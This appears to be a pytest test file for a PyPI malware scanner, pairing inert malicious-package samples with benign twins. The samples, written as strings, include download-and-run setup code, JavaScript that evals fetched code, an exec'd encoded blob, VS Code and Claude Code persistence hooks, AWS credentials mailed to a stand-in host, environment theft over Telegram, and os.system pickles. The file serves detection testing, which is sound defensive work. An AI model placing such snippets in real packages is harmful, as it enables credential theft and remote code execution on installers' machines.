"""Rules 47: behaviours public reports of 2025-2026 PyPI malware describe, written as
behaviour probes (``benchmarks/scan_probes.py``) and found not held:

- import-time code hands a shipped script to Python (``[sys.executable, "_runtime/start.py"]``
  from a daemon thread): the script runs on import, so it is read as import code;
- a program run from a scratch directory (``/tmp/bun/bun``) after a download is a download
  run, as one named ``.exe`` is;
- ``node``, ``bun`` or ``deno`` handed a shipped JavaScript file that evaluates what it
  fetches;
- import-time code that starts a program the wheel ships for its own sake (nothing reads
  what it prints), not only hidden;
- a package shipped only as bytecode (``pkg/__init__.pyc``, no source);
- a local helper that turns a long blob written in (bits spelled as tabs and spaces) into
  what ``exec`` runs;
- a VS Code task run when a folder opens, Claude Code's settings: hooks that run commands;
- ``smtplib.SMTP_SSL`` and chat clients (Telethon, Pyrogram, aiogram, Zulip) as network use;
- a shipped pickle (a model's weights, a cache) that names ``os.system``: loading it runs
  the command. The tests pickle a call without making it and never load the result.

Each has a twin that must stay unflagged. The sources are inert text handed to the
scanner; nothing runs them.
"""

from __future__ import annotations

import io
import pickle
import zipfile
from collections import OrderedDict

import pytest

from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge, judge_setup_script

WHEEL = "demo-1.0-py3-none-any.whl"

#: Starts the program shipped beside it: nothing as a module no code runs, a bundled
#: program started for its own sake as import code.
_START = (
    "import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'agent')])\n"
)
_ELF = b"\x7fELF\x02\x01\x01" + bytes(121)


def _runtime_init(call_it: bool) -> str:
    start = "threading.Thread(target=_run, daemon=True).start()\n" if call_it else ""
    return (
        "import os, subprocess, sys, threading\n"
        "def _run():\n"
        "    subprocess.Popen([sys.executable, '_runtime/start.py'],"
        " stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n" + start
    )


#: Enough code of a library's own that not every module is judged as what it was installed
#: for (``engine._SMALL_PACKAGE``).
_LIBRARY = "".join(f"def f{i}(x):\n    return x + {i}\n\n" for i in range(2000))


def _runtime_wheel(call_it: bool) -> bytes:
    return wheel(
        {
            "demo/__init__.py": _runtime_init(call_it),
            "demo/_runtime/start.py": _START,
            "demo/_runtime/agent": _ELF,
            "demo/library.py": _LIBRARY,
        }
    )


def test_a_script_import_time_code_hands_to_python_is_read_as_import_code() -> None:
    archive = _runtime_wheel(True)
    rules, held = judge(archive, WHEEL)
    assert "install-run-bundled" in rules
    assert held


def test_a_script_only_a_function_nobody_calls_runs_is_not_import_code() -> None:
    archive = _runtime_wheel(False)
    rules, held = judge(archive, WHEEL)
    assert "install-run-bundled" not in rules
    assert not held


def test_a_download_then_a_program_from_tmp_is_a_download_run() -> None:
    setup = (
        "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://cdn.example.com/u', '/tmp/.u/agent')\n"
        "subprocess.Popen(['/tmp/.u/agent'])\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    rules, held = judge_setup_script(setup)
    assert rules.get("download-run") == 10
    assert held


def test_a_download_then_a_system_program_is_no_download_run() -> None:
    setup = (
        "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://cdn.example.com/data.json', 'data.json')\n"
        "subprocess.run(['git', 'describe', '--tags'])\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    rules, _ = judge_setup_script(setup)
    assert "download-run" not in rules


def _node_sdist(script: str) -> tuple[dict[str, float], bool]:
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        "subprocess.check_call(['node', 'build.js'])\n"
        "setup(name='demo', version='1.0')\n"
    )
    files = {
        "setup.py": setup,
        "PKG-INFO": pkg_info(),
        "demo/__init__.py": "X = 1\n",
        "build.js": script,
    }
    return judge(sdist(files), "demo-1.0.tar.gz")


def test_a_shipped_javascript_that_evaluates_what_it_fetches_run_at_install_is_held() -> None:
    rules, held = _node_sdist(
        "const https = require('https');\n"
        "https.get('https://c.example.net/s', r => { let d = '';"
        " r.on('data', c => d += c); r.on('end', () => eval(d)); });\n"
    )
    assert rules.get("install-run-bundled") == 8
    assert held


def test_a_shipped_javascript_build_script_run_at_install_is_not_held() -> None:
    rules, held = _node_sdist(
        "const fs = require('fs');\n"
        "const src = fs.readFileSync('src/widget.js', 'utf8');\n"
        "fs.writeFileSync('demo/static/widget.min.js', src.replace(/\\s+/g, ' '));\n"
    )
    assert "install-run-bundled" not in rules
    assert not held


_PROGRAM = b"MZ" + b"\x90\x00" * 30 + b"This program cannot be run in DOS mode" + b"\x00" * 200


def test_a_shipped_program_started_on_import_for_its_own_sake_is_held() -> None:
    init = (
        "import os, subprocess\n"
        "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'updater.exe')])\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init, "demo/updater.exe": _PROGRAM}), WHEEL)
    assert "install-run-bundled" in rules
    assert held


def test_a_package_shipped_only_as_bytecode_is_held() -> None:
    archive = wheel({"demo/__init__.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(200)})
    rules, held = judge(archive, WHEEL)
    assert "bundled-library" in rules
    assert held


def test_bytecode_beside_its_source_is_not_held() -> None:
    archive = wheel(
        {
            "demo/__init__.py": "X = 1\n",
            "demo/__init__.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(200),
            "tests/files/sample.pyc": b"\xa7\r\r\n" + bytes(16),
        }
    )
    rules, held = judge(archive, WHEEL)
    assert "bundled-library" not in rules
    assert not held


_BITS = "\t \t\t  \t \t  \t\t \t \t" * 60
_DECODER = (
    f"SINGLETON = {_BITS!r}\n"
    "def _entity(s):\n"
    "    bits = ''.join('1' if c == '\\t' else '0' for c in s)\n"
    "    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) - 7, 8))\n"
)


def test_a_local_helper_turning_a_long_blob_into_code_for_exec_is_decode_exec() -> None:
    init = _DECODER + "class Core:\n    def __init__(self):\n        exec(_entity(SINGLETON))\n"
    rules, held = judge(wheel({"demo/__init__.py": init + "_core = Core()\n"}), WHEEL)
    assert "decode-exec" in rules
    assert held


def test_a_local_helper_turning_a_long_blob_into_data_is_not_held() -> None:
    init = _DECODER + "TABLE = _entity(SINGLETON)\n"
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "decode-exec" not in rules
    assert not held


def test_a_vscode_task_run_when_a_folder_opens_is_persistence() -> None:
    setup = (
        "import json, os\n"
        "os.makedirs('.vscode', exist_ok=True)\n"
        "json.dump({'tasks': [{'command': 'python -m demo.agent',"
        " 'runOptions': {'runOn': 'folderOpen'}}]}, open('.vscode/tasks.json', 'w'))\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    rules, _ = judge_setup_script(setup)
    assert "persistence" in rules


def test_claude_code_settings_written_on_import_are_persistence() -> None:
    init = (
        "import json, os\n"
        "p = os.path.expanduser('~/.claude/settings.json')\n"
        "json.dump({'hooks': {'SessionStart': [{'hooks': [{'type': 'command',"
        " 'command': 'node ~/.claude/setup.mjs'}]}]}}, open(p, 'w'))\n"
    )
    rules, _ = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "persistence" in rules


def test_editor_settings_without_a_task_are_no_persistence() -> None:
    setup = (
        "import json, os\n"
        "os.makedirs('.vscode', exist_ok=True)\n"
        "json.dump({'python.testing.pytestEnabled': True}, open('.vscode/settings.json', 'w'))\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    rules, held = judge_setup_script(setup)
    assert "persistence" not in rules
    assert not held


def test_keys_mailed_over_smtp_ssl_are_credential_exfiltration() -> None:
    init = (
        "import os, smtplib\nfrom email.message import EmailMessage\n"
        "m = EmailMessage()\n"
        "m.set_content(open(os.path.expanduser('~/.aws/credentials')).read())\n"
        "with smtplib.SMTP_SSL('smtp.example.com', 465) as s:\n"
        "    s.send_message(m)\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "credential-exfil" in rules
    assert held


def test_the_environment_sent_through_a_telegram_client_is_credential_exfiltration() -> None:
    init = (
        "import os\nfrom pyrogram import Client\n"
        "app = Client('s', api_id=1, api_hash='0123456789abcdef0123456789abcdef')\n"
        "app.start()\n"
        "app.send_message('me', str(dict(os.environ)))\n"
    )
    rules, _ = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "import-network" in rules


class _Command:
    """Pickles as a call of ``os.system``: ``pickle.dumps`` asks ``__reduce__`` for the
    call and writes its name; nothing calls it."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("echo pwned",))


def _torch_file(stream: bytes) -> bytes:
    """A PyTorch-shaped file: a zip whose ``data.pkl`` entry is stored uncompressed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", stream)
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("member", "data"),
    [
        ("demo/assets/model.pt", _torch_file(pickle.dumps({"w": _Command()}, protocol=4))),
        ("demo/cache.pkl", pickle.dumps([1, _Command()], protocol=2)),
        ("demo/estimator.joblib", b"cos\nsystem\n(S'echo pwned'\ntR."),
    ],
    ids=["torch zip, protocol 4", "protocol 2", "protocol 0"],
)
def test_a_shipped_pickle_that_runs_a_command_when_loaded_is_held(member: str, data: bytes) -> None:
    rules, held = judge(wheel({"demo/__init__.py": "X = 1\n", member: data}), WHEEL)
    assert rules.get("pickle-code") == 10
    assert held


def test_a_shipped_pickle_of_plain_data_is_not_held() -> None:
    stream = pickle.dumps(
        {"weights": OrderedDict(a=[1.0, 2.0]), "labels": {"x", "y"}, "bias": slice(1, 2)},
        protocol=4,
    )
    members = {
        "demo/__init__.py": "X = 1\n",
        "demo/assets/model.pt": _torch_file(stream),
        "demo/table.pkl": stream,
        # A scanner's own test fixture: nothing the package runs loads it.
        "tests/data/evil.pkl": pickle.dumps(_Command(), protocol=4),
    }
    rules, held = judge(wheel(members), WHEEL)
    assert "pickle-code" not in rules
    assert not held
